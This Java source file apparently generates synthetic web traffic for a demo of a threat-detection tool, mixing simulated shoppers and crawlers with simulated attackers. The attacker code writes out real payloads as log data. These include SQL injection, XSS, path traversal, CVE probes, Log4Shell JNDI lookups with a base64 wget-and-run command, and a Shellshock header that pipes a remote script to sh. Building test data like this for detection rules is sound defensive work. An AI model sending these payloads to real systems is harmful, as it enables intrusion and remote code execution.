package dev.threatip.demo;

import java.util.List;
import java.util.Random;

/**
 * What each kind of client of the sample shop does, as requests to the shop's three services.
 * Shoppers browse the storefront, whose pages call the API, and some go on to check out; the
 * attackers do what the built-in behaviour rules are written to catch (see {@code
 * builtin-rules.yaml}): path scanning, CVE probes with payloads, Log4Shell, injection and
 * traversal, password guessing, credential stuffing from a residential proxy pool, catalogue
 * scraping, a fake Googlebot and open-proxy probing. Each method starts at a given time and
 * spaces its requests as the real thing would; the same random sequence gives the same traffic.
 */
final class Behaviors {
    /** Where requests go: the 24-hour log of {@link SampleWorkspace} or the queue of {@link LiveTraffic}. */
    interface Sink {
        void accept(Service service, Request request);
    }

    static final String SHOP_URL = "https://shop.example.com";

    static final String[] BROWSER_UAS = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    };
    static final String TOR_UA = "Mozilla/5.0 (Windows NT 10.0; rv:128.0) Gecko/20100101 Firefox/128.0";
    static final String GOOGLEBOT_UA = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    static final String BINGBOT_UA = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";
    static final String[] SCANNER_UAS = {
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 nuclei",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "python-requests/2.31.0",
    };
    private static final String SCRAPY_UA = "Scrapy/2.11.2 (+https://scrapy.org)";

    private static final String[] PRODUCTS = {"linen-shirt", "wool-scarf", "leather-boots", "denim-jacket",
        "canvas-tote", "silk-tie", "running-shoes", "rain-coat", "cotton-socks", "straw-hat", "trail-backpack",
        "merino-sweater"};
    private static final String[] CATEGORIES = {"men", "women", "shoes", "accessories", "sale", "new-in"};
    private static final String[] SEARCHES = {"boots", "summer+dress", "gift", "scarf", "size+guide", "jacket"};
    private static final String[] ASSETS = {"/static/css/main.css", "/static/js/app.js", "/static/js/vendor.js",
        "/static/img/logo.svg", "/favicon.ico", "/static/fonts/inter.woff2"};
    private static final String[] PROBES = {"/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php",
        "/phpmyadmin/index.php", "/.aws/credentials", "/config.json", "/server-status", "/actuator/env",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/admin/.env", "/backup.zip", "/.DS_Store",
        "/cgi-bin/luci/;stok=/locale", "/solr/admin/info/system", "/owa/auth/logon.aspx", "/xmlrpc.php",
        "/boaform/admin/formLogin", "/.svn/entries", "/debug/default/view"};
    private static final String[] PAYLOADS = {
        "/products?id=1%27%20OR%20%271%27=%271",
        "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/download?file=../../../../etc/passwd",
        "/download?file=..%2f..%2f..%2f..%2fetc%2fshadow",
        "/products?id=1;SELECT%20pg_sleep(5)--",
        "/category/men?sort=name%27%20AND%201=CONVERT(int,@@version)--",
        "/api/v1/cart?item=${jndi:ldap://198.51.100.9/a}",
    };
    private static final String[] API_PAYLOADS = {
        "/api/v1/products?sort=price%27%20OR%201=1--",
        "/api/v1/products?category=men%27%20UNION%20SELECT%20email,password_hash%20FROM%20customers--",
        "/api/v1/search?q=%3Csvg/onload=alert(document.domain)%3E",
        "/api/v1/products/1%20AND%20SLEEP(5)",
    };
    private static final String[] CHECKOUT_PAYLOADS = {
        "/account/invoice?file=../../../../etc/passwd",
        "/account/invoice?file=....//....//....//windows/win.ini",
        "/checkout/confirmation?order=1%27%20OR%20%271%27=%271",
    };
    /** CVE probes that carry their payload, against the load balancer. */
    private static final String[][] CVE_PROBES = {
        {"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
        {"GET", "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21"},
        {"POST", "/_ignition/execute-solution"},
        {"GET", "/actuator/gateway/routes"},
        {"GET", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"},
        {"POST", "/api/jsonws/invoke"},
        {"GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"},
        {"GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"},
        {"GET", "/autodiscover/autodiscover.json?@zdi/Powershell"},
    };
    private static final String[] PROXY_TARGETS = {"www.google.com:443", "api.ipify.org:443", "smtp.mail.example.net:25"};
    private static final String[] PROXY_URLS = {"http://azenv.net/", "http://www.google.com/", "http://ip-api.com/json",
        "http://proxyjudge.example.org/judge.php"};

    private final Random rnd;
    private final Sink sink;

    Behaviors(Random rnd, Sink sink) {
        this.rnd = rnd;
        this.sink = sink;
    }

    /**
     * A shopper: storefront pages with their assets a few seconds to a minute apart; each page
     * calls the API; a session that reaches the cart often checks out.
     *
     * @return when the session ends
     */
    long visit(String ip, String ua, long t, int pages) {
        String referer = rnd.nextInt(3) == 0 ? "https://www.google.com/" : "-";
        String page = "/";
        for (int p = 0; p < pages; p++) {
            page = page();
            shop(t, ip, "GET", page, 200, 8_000 + rnd.nextInt(40_000), referer, ua);
            for (String a : ASSETS) {
                if (rnd.nextInt(3) != 0) {
                    boolean cached = p > 0 && rnd.nextInt(4) != 0;
                    shop(t + 40 + rnd.nextInt(400), ip, "GET", a, cached ? 304 : 200,
                            cached ? 0 : 2_000 + rnd.nextInt(120_000), SHOP_URL + page, ua);
                }
            }
            int calls = 1 + rnd.nextInt(3);
            for (int c = 0; c < calls; c++) {
                api(t + 300 + rnd.nextInt(900), ip, c == 0 ? apiFor(page) : apiExtra(page), ua, SHOP_URL + page);
            }
            referer = SHOP_URL + page;
            t += 4_000 + rnd.nextInt(60_000);
        }
        if (page.equals("/cart") ? rnd.nextInt(4) != 0 : rnd.nextInt(5) == 0) {
            t = checkout(ip, ua, t);
        }
        return t;
    }

    private String page() {
        int k = rnd.nextInt(20);
        if (k < 4) {
            return "/";
        } else if (k < 11) {
            return "/products/" + PRODUCTS[rnd.nextInt(PRODUCTS.length)];
        } else if (k < 15) {
            return "/category/" + CATEGORIES[rnd.nextInt(CATEGORIES.length)];
        } else if (k < 17) {
            return "/search?q=" + SEARCHES[rnd.nextInt(SEARCHES.length)];
        } else if (k < 19) {
            return "/cart";
        }
        return rnd.nextBoolean() ? "/about" : "/contact";
    }

    /** The API call a storefront page makes first. */
    private String apiFor(String page) {
        if (page.startsWith("/products/")) {
            return "/api/v1/products/" + page.substring("/products/".length());
        } else if (page.startsWith("/category/")) {
            return "/api/v1/products?category=" + page.substring("/category/".length()) + "&page=" + (1 + rnd.nextInt(3))
                    + "&sort=popular";
        } else if (page.startsWith("/search")) {
            return "/api/v1/search?" + page.substring("/search?".length()) + "&limit=24";
        } else if (page.equals("/cart")) {
            return "/api/v1/cart";
        }
        return "/api/v1/home/banners";
    }

    private String apiExtra(String page) {
        int k = rnd.nextInt(4);
        if (k == 0) {
            return "/api/v1/cart";
        } else if (k == 1) {
            return "/api/v1/session";
        }
        return "/api/v1/recommendations?product=" + PRODUCTS[rnd.nextInt(PRODUCTS.length)] + "&limit=8";
    }

    private void api(long t, String ip, String target, String ua, String referer) {
        sink.accept(Service.API, new Request(t, ip, "GET", target, 200, 400 + rnd.nextInt(12_000), referer, ua));
        if (target.startsWith("/api/v1/products/") && rnd.nextInt(4) == 0) {
            sink.accept(Service.API, new Request(t + 2_000 + rnd.nextInt(20_000), ip, "POST", "/api/v1/cart/items",
                    201, 310 + rnd.nextInt(200), referer, ua));
        }
    }

    /** Sign-in (accepted), address, payment and confirmation behind the load balancer. */
    private long checkout(String ip, String ua, long t) {
        t += 3_000 + rnd.nextInt(20_000);
        if (rnd.nextInt(3) == 0) {
            sink.accept(Service.API, new Request(t, ip, "POST", "/api/v1/auth/login", 200, 512, SHOP_URL + "/cart", ua));
            t += 1_000 + rnd.nextInt(3_000);
        }
        checkout(t, ip, "GET", "/checkout", 200, 14_000 + rnd.nextInt(4_000), ua);
        checkout(t + 200, ip, "GET", "/static/js/checkout.js", 200, 48_211, ua);
        t += 20_000 + rnd.nextInt(60_000);
        checkout(t, ip, "POST", "/checkout/address", 303, 0, ua);
        checkout(t + 150, ip, "GET", "/checkout/payment", 200, 11_000 + rnd.nextInt(3_000), ua);
        if (rnd.nextInt(5) == 0) {
            return t; // abandoned at payment
        }
        t += 30_000 + rnd.nextInt(90_000);
        checkout(t, ip, "POST", "/checkout/payment", 303, 0, ua);
        checkout(t + 900, ip, "GET", "/checkout/confirmation?order=SO-" + (100_000 + rnd.nextInt(900_000)), 200,
                9_000 + rnd.nextInt(2_000), ua);
        if (rnd.nextInt(3) == 0) {
            t += 10_000 + rnd.nextInt(50_000);
            checkout(t, ip, "GET", "/account/orders", 200, 7_000 + rnd.nextInt(5_000), ua);
        }
        return t;
    }

    /** A verified crawler: robots.txt and the sitemap, then a page every few minutes. */
    void crawl(String ip, String ua, long t, int pages, int meanGapMillis) {
        shop(t, ip, "GET", "/robots.txt", 200, 312, "-", ua);
        shop(t + 2_000, ip, "GET", "/sitemap.xml", 200, 18_344, "-", ua);
        checkout(t + 5_000, ip, "GET", "/robots.txt", 200, 64, ua);
        for (int i = 0; i < pages; i++) {
            t += meanGapMillis / 6 + rnd.nextInt(meanGapMillis * 5 / 3);
            shop(t, ip, "GET", page(), rnd.nextInt(40) == 0 ? 404 : 200, 8_000 + rnd.nextInt(40_000), "-", ua);
        }
    }

    /** A path scanner: a fast burst of probes for secrets and admin panels on every host, mostly 404. */
    void scan(String ip, String ua, long t, int probes) {
        for (int i = 0; i < probes; i++) {
            String path = PROBES[rnd.nextInt(PROBES.length)];
            if (rnd.nextInt(5) == 0) {
                path = "/" + PRODUCTS[rnd.nextInt(PRODUCTS.length)] + PROBES[rnd.nextInt(PROBES.length)];
            }
            int status = path.endsWith("/.git/config") || path.endsWith(".env") ? 403 : 404;
            String method = rnd.nextInt(8) == 0 ? "POST" : "GET";
            int bytes = 150 + rnd.nextInt(400);
            if (rnd.nextInt(4) == 0) {
                checkout(t, ip, method, path, status, bytes, ua);
            } else {
                shop(t, ip, method, path, status, bytes, "-", ua);
            }
            t += 150 + rnd.nextInt(1_500);
        }
    }

    /** A password guesser: POST to the storefront's or the API's login every second or two, 401 then 429. */
    void bruteForce(String ip, long t, int attempts) {
        String ua = rnd.nextBoolean() ? "python-requests/2.31.0" : BROWSER_UAS[0];
        boolean viaApi = rnd.nextInt(3) == 0;
        if (!viaApi) {
            shop(t, ip, "GET", "/login", 200, 5_412, "-", ua);
        }
        for (int i = 0; i < attempts; i++) {
            t += 700 + rnd.nextInt(2_000);
            int status = i > 60 && rnd.nextInt(3) == 0 ? 429 : 401;
            if (viaApi) {
                sink.accept(Service.API, new Request(t, ip, "POST", "/api/v1/auth/login", status, 98, "-", ua));
            } else {
                shop(t, ip, "POST", "/login", status, 612, SHOP_URL + "/login", ua);
            }
        }
    }

    /** Injection and traversal payloads against the storefront's, the API's and the checkout's parameters. */
    void webAttack(String ip, long t, int payloads) {
        String ua = rnd.nextBoolean() ? "sqlmap/1.8.4#stable (https://sqlmap.org)" : BROWSER_UAS[rnd.nextInt(3)];
        t = visit(ip, ua, t, 2);
        for (int i = 0; i < payloads; i++) {
            int k = rnd.nextInt(10);
            if (k < 6) {
                String p = PAYLOADS[rnd.nextInt(PAYLOADS.length)];
                int status = p.startsWith("/download") ? 400 : rnd.nextInt(4) == 0 ? 500 : 200;
                shop(t, ip, "GET", p, status, 300 + rnd.nextInt(9_000), SHOP_URL + "/", ua);
            } else if (k < 9) {
                sink.accept(Service.API, new Request(t, ip, "GET", API_PAYLOADS[rnd.nextInt(API_PAYLOADS.length)],
                        rnd.nextInt(3) == 0 ? 500 : 400, 120 + rnd.nextInt(400), "-", ua));
            } else {
                checkout(t, ip, "GET", CHECKOUT_PAYLOADS[rnd.nextInt(CHECKOUT_PAYLOADS.length)], 400, 180, ua);
            }
            t += 1_000 + rnd.nextInt(8_000);
        }
    }

    /**
     * Exploit attempts: CVE probes with their payloads against the load balancer, Log4Shell lookups
     * in the API's headers and parameters, a Shellshock header at a CGI path.
     */
    void exploit(String ip, long t, int attempts) {
        String callback = "ldap://" + ip + ":1389/Basic/Command/Base64/d2dldCBodHRwOi8vZXhhbXBsZS5vcmcvc2g=";
        for (int i = 0; i < attempts; i++) {
            int k = rnd.nextInt(10);
            if (k < 6) {
                String[] probe = CVE_PROBES[rnd.nextInt(CVE_PROBES.length)];
                checkout(t, ip, probe[0], probe[1], 404, 150 + rnd.nextInt(200), "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
                        + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36");
            } else if (k < 9) {
                String target = rnd.nextBoolean() ? "/api/v1/search?q=${jndi:" + callback + "}"
                        : "/api/v1/products?category=${${lower:j}ndi:" + callback + "}";
                sink.accept(Service.API, new Request(t, ip, "GET", target, 400, 98, "${jndi:" + callback + "}",
                        "${jndi:" + callback + "}"));
            } else {
                shop(t, ip, "GET", "/cgi-bin/status", 404, 196, "-",
                        "() { :; }; echo; /bin/bash -c 'wget http://" + ip + "/x.sh -O- | sh'");
            }
            t += 2_000 + rnd.nextInt(20_000);
        }
    }

    /**
     * Credential stuffing from a residential proxy pool: each address tries a leaked password once
     * or twice on the API's login within {@code spanMillis}; the first try always fails, a rare
     * second one gets in.
     */
    void stuffing(List<String> pool, long t, int spanMillis) {
        for (String ip : pool) {
            String ua = BROWSER_UAS[rnd.nextInt(BROWSER_UAS.length)];
            long at = t + rnd.nextInt(spanMillis);
            int tries = 1 + rnd.nextInt(2);
            for (int i = 0; i < tries; i++) {
                int status = i > 0 && rnd.nextInt(20) == 0 ? 200 : 401;
                sink.accept(Service.API, new Request(at, ip, "POST", "/api/v1/auth/login", status,
                        status == 200 ? 512 : 98, SHOP_URL + "/login", ua));
                at += 3_000 + rnd.nextInt(30_000);
            }
        }
    }

    /**
     * A scraper: the whole catalogue through the API with Scrapy, or the storefront's product
     * pages under a Googlebot user agent from outside Google's ranges.
     */
    void scrape(String ip, long t, int pages, boolean fakeGooglebot) {
        for (int i = 0; i < pages; i++) {
            if (fakeGooglebot) {
                shop(t, ip, "GET", "/products/" + PRODUCTS[rnd.nextInt(PRODUCTS.length)] + "?variant=" + rnd.nextInt(40),
                        200, 8_000 + rnd.nextInt(40_000), "-", GOOGLEBOT_UA);
            } else {
                sink.accept(Service.API, new Request(t, ip, "GET", "/api/v1/products?page=" + (1 + i) + "&per_page=100",
                        200, 40_000 + rnd.nextInt(20_000), "-", SCRAPY_UA));
            }
            t += 300 + rnd.nextInt(1_200);
        }
    }

    /** An open-proxy prober: CONNECT and absolute-URI requests, refused by the storefront. */
    void proxyProbe(String ip, long t, int probes) {
        String ua = rnd.nextBoolean() ? "-" : "Go-http-client/1.1";
        for (int i = 0; i < probes; i++) {
            if (rnd.nextBoolean()) {
                shop(t, ip, "CONNECT", PROXY_TARGETS[rnd.nextInt(PROXY_TARGETS.length)], 405, 166, "-", ua);
            } else {
                shop(t, ip, "GET", PROXY_URLS[rnd.nextInt(PROXY_URLS.length)], 404, 153, "-", ua);
            }
            t += 500 + rnd.nextInt(6_000);
        }
    }

    private void shop(long t, String ip, String method, String target, int status, int bytes, String referer,
                      String ua) {
        sink.accept(Service.SHOP, new Request(t, ip, method, target, status, bytes, referer, ua));
    }

    private void checkout(long t, String ip, String method, String target, int status, int bytes, String ua) {
        sink.accept(Service.CHECKOUT, new Request(t, ip, method, target, status, bytes, "-", ua));
    }
}
